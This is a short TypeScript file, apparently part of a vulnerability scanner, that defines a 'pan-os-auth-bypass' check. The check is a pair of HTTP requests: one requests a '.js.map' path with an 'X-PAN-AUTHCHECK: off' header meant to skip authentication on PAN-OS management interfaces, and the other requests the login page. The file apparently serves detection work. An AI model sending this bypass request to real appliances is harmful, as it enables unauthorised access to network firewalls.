import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'pan-os-auth-bypass',
    get('/php/ztp_gate.php/.js.map', { headers: { 'X-PAN-AUTHCHECK': 'off' } }),
    get('/php/login.php'),
  ),
]
